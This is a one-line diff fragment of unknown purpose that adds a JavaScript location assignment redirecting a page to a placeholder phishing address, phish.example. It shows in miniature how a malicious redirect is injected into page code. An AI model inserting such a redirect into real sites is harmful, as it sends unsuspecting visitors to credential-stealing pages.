@@ -1,0 +1,1 @@
+location="http://phish.example/x"
